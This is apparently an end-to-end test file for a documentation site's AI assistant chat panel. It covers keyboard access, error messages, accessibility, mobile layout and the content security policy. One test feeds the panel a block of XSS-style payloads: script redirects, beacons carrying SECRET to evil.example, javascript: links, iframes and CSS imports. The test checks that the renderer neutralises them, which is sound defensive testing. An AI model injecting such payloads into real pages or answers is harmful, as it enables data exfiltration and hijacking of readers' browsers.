import { afterAll, beforeAll, expect, test } from 'vitest'
import { type AssistantStub, startAssistantStub } from '../tools/assistantStub.js'
import { findBarriers } from '../tools/axe.js'
import { eventually, watchProblems } from '../tools/browser.js'
import { ASSISTANT_SITE, answer, ask, button, field, hrefs, panel, sources, status, turn } from './assistantPanel.js'
import { describeSite, PHONE } from './site.js'

const KEY = 'svc_dsc_test'

let stub: AssistantStub
beforeAll(async () => {
  stub = await startAssistantStub()
})
afterAll(() => stub[Symbol.asyncDispose]())

const withServer = async () => ({
  args: ['--assistant', stub.url, '--assistant-domain', 'docs.kettles.test', '--assistant-key', KEY],
})

describeSite('preview', { source: ASSISTANT_SITE, command: withServer }, (site) => {
  test('the assistant opens by keys, menu, selection, code and scripts, and shows the context of the question', async () => {
    const page = await site.newPage()
    const problems = watchProblems(page, site.url)
    const loaded: string[] = []
    page.on('request', (request) => loaded.push(new URL(request.url()).pathname))
    await page.goto(site.address('/'))
    await page.waitForLoadState('networkidle')
    expect(loaded.filter((path) => path.includes('assistant'))).toEqual([])
    for (const chord of ['Control+i', 'Meta+i']) {
      await page.keyboard.press(chord)
      await field(page).waitFor()
      await page.keyboard.press(chord)
      await panel(page).waitFor({ state: 'hidden' })
    }
    await page.getByRole('button', { name: 'Ask the assistant' }).click()
    await page.keyboard.press('Escape')
    await panel(page).waitFor({ state: 'hidden' })
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('assistant-entry')

    await page.locator('#page-context-menu-button').click()
    await page.locator('#page-context-menu').getByRole('button', { name: 'Ask the assistant' }).click()
    await field(page).waitFor()
    await page.getByRole('button', { name: 'Ask about this code' }).click()
    await page.locator('#content p', { hasText: 'cold water' }).selectText()
    await page.getByRole('button', { name: 'Ask about this', exact: true }).click()
    const [code, selection] = await panel(page).locator('.ask-chip-text').allInnerTexts()
    expect(code).toBe('await kettle.boil({ degrees: 80 })')
    expect(selection).toContain('Fill it with cold water')
    await button(page, 'Remove Code').click()
    stub.answer = { says: 'Up to the line.' }
    await ask(page, 'How far?')
    await eventually(() => answer(page).innerText()).toContain('Up to the line.')
    const endpoint = `${stub.url}/v2/assistant/docs.kettles.test/message`
    expect(stub.questions.at(-1)).toMatchObject({
      path: new URL(endpoint).pathname,
      authorization: `Bearer ${KEY}`,
      cookie: undefined,
      body: {
        currentPath: '/',
        context: [{ type: 'textSelection', path: '/', elementId: 'filling' }],
      },
    })
    await page.evaluate(() =>
      document.dispatchEvent(new CustomEvent('octavo:ask', { detail: { question: 'By script?' } })),
    )
    await eventually(() => stub.questions.at(-1)?.body).toMatchObject({
      threadId: 'thread-1',
      messages: [{ role: 'user' }, { role: 'assistant' }, { role: 'user', parts: [{ text: 'By script?' }] }],
    })
    // The policy of the site is in force; what it asked elsewhere, was its server.
    expect(problems.filter((problem) => problem !== `foreign: ${endpoint}`)).toEqual([])
    await page.context().close()
  })

  test('the assistant shows the context of the first question before it is sent', async () => {
    const page = await site.open('/')
    await page.getByRole('button', { name: 'Ask about this code' }).click()
    await eventually(() => panel(page).locator('.ask-chip-text').allInnerTexts()).toEqual([
      'await kettle.boil({ degrees: 80 })',
    ])
    await page.context().close()
    const other = await site.open('/')
    await other.locator('#content p', { hasText: 'cold water' }).selectText()
    await other.getByRole('button', { name: 'Ask about this', exact: true }).click()
    await eventually(async () => (await panel(other).locator('.ask-chip-text').allInnerTexts()).join()).toContain(
      'Fill it with cold water',
    )
    await other.context().close()
  })

  test('the assistant shows errors with a fix', async () => {
    const page = await site.open('/')
    await page.keyboard.press('Control+i')
    const value: Record<string, string> = {}
    const cases: Record<string, AssistantStub['answer']> = {
      busy: { status: 429, headers: { 'retry-after': '90' } },
      later: { status: 429 },
      hours: { status: 429, headers: { 'retry-after': '7200' } },
      unavailable: { status: 503 },
      network: { breaksAfter: '' },
      origins: { forbidsOrigins: true },
      key: { status: 403, error: 'The API key is not one of this site.' },
      silent: { says: '', sources: [{ url: '/guides/boiling', title: 'Boiling' }] },
      broken: { breaksAfter: 'Boil it and' },
    }
    for (const [name, stubAnswer] of Object.entries(cases)) {
      stub.answer = stubAnswer
      await ask(page, name)
      await turn(page).locator('.ask-problem').waitFor()
      value[name] = (await turn(page).locator('.ask-answer').innerText()).replace(/\n+/g, ' | ')
    }
    expect(value).toMatchInlineSnapshot(`
      {
        "broken": "Boil it and | The answer was interrupted.",
        "busy": "Too many questions. Try again in 90 seconds. | Try again",
        "hours": "Too many questions. Try again in 2 hours. | Try again",
        "key": "The assistant rejected the question. | The API key is not one of this site. | Try again",
        "later": "Too many questions. Try again later. | Try again",
        "network": "The assistant cannot be reached. Check your connection and try again. | Try again",
        "origins": "The assistant cannot be reached. Check your connection and try again. | Try again",
        "silent": "The assistant could not answer. Try again later. | Try again",
        "unavailable": "The assistant could not answer. Try again later. | Try again",
      }
    `)
    await eventually(() => status(page).textContent()).toBe('The answer was interrupted.')
    // Nothing of it is told to the server as something that was said.
    stub.answer = { says: 'Now it works.' }
    await button(page, 'Try again').click()
    await eventually(() => answer(page).innerText()).toContain('Now it works.')
    expect(stub.questions.at(-1)?.body.messages.map(({ parts }) => parts[0]?.text)).toEqual(['broken'])
    await page.context().close()
  })

  test('content of an answer cannot load, run or navigate', async () => {
    const page = await site.newPage()
    const foreign: string[] = []
    page.on('request', (request) => /evil/.test(request.url()) && foreign.push(request.url()))
    await page.goto(site.address('/'))
    await page.keyboard.press('Control+i')
    stub.answer = {
      says: HOSTILE,
      sources: [
        { url: 'https://docs.kettles.test/guides/boiling#temperatures', title: '<img src=x onerror=alert(1)>' },
        { url: 'https://evil.example/?q=SECRET', title: 'Elsewhere' },
        { url: 'javascript:alert(1)', title: 'Code' },
      ],
    }
    await ask(page, 'Hostile?')
    await sources(page).first().waitFor()
    expect(await answer(page).locator('.ask-prose').innerText()).toMatchInlineSnapshot(`
      "<script>location = 'https://evil.example/'</script>

      x (https://evil.example/?q=SECRET) ![y]1 <img src="https://evil.example/i.png"> https://evil.example/auto

      a (javascript:alert(1)) b (https://evil.example/link) c (//evil.example) d e (data:text/html,x)

      <iframe src="https://evil.example"></iframe> https://evil.example/bare [f](https://evil.example) 1 [2] [3]

      <style>@import "https://evil.example/a.css"</style><a href="https://evil.example">g</a> <form action="https://evil.example">

      [1]: https://evil.example/reference.png"
    `)
    const answerUrl = `${site.url}/guides/boiling#temperatures`
    expect(await hrefs(page, '.ask-panel a')).toEqual([answerUrl, answerUrl, answerUrl, answerUrl])
    expect(await panel(page).locator('script, img, iframe, style, form form').count()).toBe(0)
    expect(foreign).toEqual([])
    await page.context().close()
  })

  test('the assistant can be used by keyboard and with a screen reader', async () => {
    const page = await site.open('/guides/boiling', { colorScheme: 'dark' })
    await page.keyboard.press('Control+i')
    expect(await findBarriers(page, 'empty')).toEqual([])
    const longAnswer: AssistantStub['answer'] = { begins: '# Tea\n\nBlack tea wants ' }
    stub.answer = longAnswer
    await ask(page, 'How hot?')
    await eventually(() => answer(page).innerText()).toContain('Black tea wants')
    expect(await status(page).textContent()).toBe('Looking it up…')
    longAnswer.finish?.('`95` degrees.\n\n```\nkettle boil\n```')
    await eventually(() => status(page).textContent()).toBe('Tea Black tea wants 95 degrees. Code')
    expect(await findBarriers(page, 'answer')).toEqual([])
    await field(page).press('Shift+Tab')
    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Try again')
    stub.answer = { breaksAfter: '' }
    await page.keyboard.press('Enter')
    await turn(page).locator('.ask-problem').waitFor()
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('TEXTAREA')
    expect(await findBarriers(page, 'problem')).toEqual([])
    // The page beside it stays in use.
    await page.locator('#search-bar-entry').focus()
    await page.keyboard.press('Escape')
    expect(await panel(page).isVisible()).toBe(true)
    await page.keyboard.press('Control+i')
    await page.keyboard.press('Escape')
    await panel(page).waitFor({ state: 'hidden' })
    await page.context().close()
  })

  test('the assistant is a sheet above the page on a phone, and its links return to the page', async () => {
    const page = await site.open('/guides/boiling', PHONE)
    await page.locator('#assistant-entry-mobile').tap()
    await field(page).waitFor()
    expect(await page.evaluate(() => document.querySelector('.ask-panel')?.matches(':modal'))).toBe(true)
    const [code, cell] = [`npm i ${'kettle '.repeat(20)}`, 'temperature'.repeat(4)]
    const wide = `\`\`\`sh title="npm"\n${code}\n\`\`\`\n\n| a | b |\n|---|---|\n| ${cell} | ${cell} |`
    stub.answer = { says: `See [Temperatures](/guides/boiling#temperatures).\n\n${wide}` }
    await ask(page, 'How hot?')
    await answer(page).locator('td').first().waitFor()
    expect(await answer(page).locator('.ask-code-title').innerText()).toBe('npm')
    // What is wider than the sheet fades where it continues.
    for (const wider of await answer(page).locator('.ask-code > pre, .ask-table').all())
      await eventually(() =>
        wider.evaluate((element) => getComputedStyle(element).getPropertyValue('--fade-right')),
      ).toBe('40px')
    expect(await findBarriers(page, 'phone')).toEqual([])
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
    await answer(page).getByRole('link').tap()
    await page.waitForURL('**/guides/boiling#temperatures')
    await panel(page).waitFor({ state: 'hidden' })
    await page.locator('#assistant-entry-mobile').tap()
    await eventually(() => panel(page).locator('.ask-turn').count()).toBe(1)
    await page.context().close()
  })

  test('long answers start at their beginning, and readers who scrolled keep their position', async () => {
    const page = await site.open('/')
    await page.keyboard.press('Control+i')
    const longAnswer: AssistantStub['answer'] = { begins: 'Line\n\n'.repeat(80) }
    stub.answer = longAnswer
    await ask(page, 'Everything?')
    const top = () =>
      page.evaluate(() => {
        const [thread, question] = ['.ask-thread', '.ask-question'].map((name) => document.querySelector(name))
        return (question?.getBoundingClientRect().top ?? 0) - (thread?.getBoundingClientRect().top ?? 0)
      })
    await eventually(() => answer(page).locator('p').count()).toBeGreaterThan(79)
    expect(await top()).toBe(20)
    const thread = panel(page).locator('.ask-thread')
    await thread.evaluate((element) => element.scrollTo({ top: 300, behavior: 'instant' }))
    longAnswer.finish?.('The end.')
    await answer(page).getByText('The end.').waitFor()
    expect(await thread.evaluate((element) => element.scrollTop)).toBe(300)
    await page.context().close()
  })

  test('a reopened conversation shows its end', async () => {
    const page = await site.open('/')
    await page.keyboard.press('Control+i')
    stub.answer = { says: `${'Line\n\n'.repeat(80)}The end.` }
    await ask(page, 'Everything?')
    await sources(page).or(button(page, 'Try again')).first().waitFor()
    await page.reload()
    const below = () =>
      panel(page)
        .locator('.ask-thread')
        .evaluate(({ scrollHeight, scrollTop, clientHeight }) => [
          scrollHeight,
          scrollHeight - scrollTop - clientHeight,
        ])
    await eventually(async () => (await below())[0]).toBeGreaterThan(1000)
    await eventually(async () => Math.round((await below())[1] ?? 0)).toBe(0)
    await page.keyboard.press('Control+i')
    await page.keyboard.press('Control+i')
    await panel(page).waitFor({ state: 'hidden' })
    await page.goto(site.address('/guides/boiling'))
    await page.keyboard.press('Control+i')
    await answer(page).getByText('The end.').waitFor()
    expect(Math.round((await below())[1] ?? 0)).toBe(0)
    await page.context().close()
  })

  test('a page may be the chat, in the language of its readers', async () => {
    const page = await site.open('/ask')
    const chat = page.getByRole('region', { name: 'Assistant' })
    await chat.getByRole('textbox').waitFor()
    expect(await findBarriers(page, '/ask')).toEqual([])
    await page.keyboard.press('Control+i')
    stub.answer = { says: 'Yes.' }
    await page.keyboard.type('Is this the chat?')
    await page.keyboard.press('Enter')
    await chat.getByText('Yes.').first().waitFor()
    expect(await page.locator('dialog.ask-panel').count()).toBe(0)
    const buttonBox = await chat.getByRole('button', { name: 'New conversation' }).boundingBox()
    const column = await chat.locator('.ask-composer').boundingBox()
    expect((buttonBox?.x ?? 0) + (buttonBox?.width ?? 0)).toBe((column?.x ?? 0) + (column?.width ?? 0))
    await page.goto(site.address('/ar'))
    await page.keyboard.press('Control+i')
    const arabic = page.getByRole('dialog', { name: 'المساعد' })
    await arabic.getByText('Is this the chat?').waitFor()
    expect((await arabic.boundingBox())?.x).toBe(0)
    await page.locator('#content p').first().selectText()
    await page.getByRole('button', { name: 'اسأل عن هذا', exact: true }).waitFor()
    expect(await findBarriers(page, '/ar')).toEqual([])
    await page.context().close()
  })

  test('the site policy allows the assistant server only', async () => {
    const policy = (await fetch(site.url)).headers.get('content-security-policy')
    expect(policy).toContain("script-src 'self' 'inline-speculation-rules';")
    expect(policy).toContain(`connect-src 'self' https: wss: ${new URL(stub.url).origin};`)
  })
})

describeSite('file', { source: ASSISTANT_SITE, command: withServer }, (site) => {
  test('the assistant of a site opened from a folder calls its server, and its sources link to files', async () => {
    const page = await site.open('/')
    await page.keyboard.press('Control+i')
    stub.answer = {
      says: 'With vinegar [1].',
      sources: [{ url: 'https://docs.kettles.test/guides/descaling#with-vinegar', title: 'Descaling' }],
    }
    await ask(page, 'How?')
    const file = `${site.url}/guides/descaling.html#with-vinegar`
    await sources(page).first().waitFor()
    expect(await hrefs(page, '.ask-panel a')).toEqual([file, file])
    await sources(page).first().click()
    await page.waitForURL(file)
    await eventually(() => answer(page).innerText()).toContain('With vinegar')
    await ask(page, 'And here?')
    await eventually(() => stub.questions.at(-1)?.body.currentPath).toBe('/guides/descaling')
    await page.context().close()
  })
})

const HOSTILE = `<script>location = 'https://evil.example/'</script>

![x](https://evil.example/?q=SECRET) ![y][1] <img src="https://evil.example/i.png"> <https://evil.example/auto>

[a](javascript:alert(1)) [b](https://evil.example/link) [c](//evil.example) [d](/guides/boiling#temperatures) [e](data:text/html,x)

<iframe src="https://evil.example"></iframe> https://evil.example/bare \`[f](https://evil.example)\` [1] [2] [3]

<style>@import "https://evil.example/a.css"</style><a href="https://evil.example">g</a> <form action="https://evil.example">

[1]: https://evil.example/reference.png
`
